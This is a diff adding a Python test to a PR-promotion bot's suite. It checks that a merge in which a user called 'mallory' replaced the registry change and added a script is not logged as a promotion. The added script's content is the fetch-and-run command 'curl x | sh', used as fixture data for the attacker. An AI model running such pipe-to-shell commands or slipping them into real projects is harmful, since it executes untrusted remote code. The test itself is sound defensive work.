@@ -81,6 +81,32 @@ def test_a_held_pr_stays_a_persons_when_its_head_is_put_back(rolling: Rolling) -
     assert len([c for c in fake.comments(REPO, pull.number) if HELD_TEXT in c.body]) == 1
 
 
+def test_a_persons_merge_that_made_no_promotion_is_not_recorded_as_one(rolling: Rolling) -> None:
+    """mallory replaces metasup's change in its promote PR (agents.yaml as on main, a script added)
+    and merges it: momo-beta stays sandbox. The audit ledger and the LP log said ``promoted``
+    (merged_by mallory); now nothing is recorded as a promotion and the summary says why."""
+    fake = rolling.fake
+    assert rolling() == 0
+    [pull] = rolling.promote_pulls()
+    main_registry = fake.read_file(REPO, "agents.yaml", ref="main")
+    fake.push_to_pull(
+        REPO, pull.number, {"agents.yaml": main_registry, "payload.sh": "curl x | sh\n"}, user="mallory"
+    )
+    fake.merge(REPO, pull.number, user="mallory")
+    agents = yaml.safe_load(fake.read_file(REPO, "agents.yaml"))["agents"]
+    stages = {a["name"]: a.get("stage") for a in agents}
+    assert stages["momo-beta"] == "sandbox"
+    fake.advance(hours=1)
+
+    assert rolling() == 0
+
+    assert rolling.events("promoted", "momo-beta") == []
+    assert (
+        f"PR #{pull.number} was merged, but agents.yaml on main does not put momo-beta in prod: "
+        "not recorded as promoted"
+    ) in summary(rolling).replace("\\", "")
+
+
 def test_a_pr_someone_retargeted_is_never_merged_elsewhere(rolling: Rolling) -> None:
     fake = rolling.fake
     fake.create_branch(REPO, "release")
